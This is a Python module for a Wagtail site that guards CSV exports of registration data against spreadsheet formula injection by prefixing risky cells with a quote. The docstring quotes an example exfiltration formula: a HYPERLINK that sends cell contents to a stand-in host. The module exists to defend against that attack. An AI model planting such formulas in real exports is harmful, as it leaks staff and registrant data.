"""Spreadsheet exports of what registrants typed, safe to open (issue 20).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets: an anonymous
registrant could put ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` in
the organisation field and staff would run it by opening the CSV. OWASP's
advice: prefix such a cell with a single quote, so it shows as text. The
XLSX export is already safe (Wagtail stores formula-looking cells as text).
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.snippets.views.snippets import IndexView

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A CSV cell value that no spreadsheet reads as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCSVExportMixin:
    """For any Wagtail listing with ``list_export``: CSV cells neutralised."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return neutralise(value)
        return value


class RegistrationIndexView(SafeCSVExportMixin, IndexView):
    pass
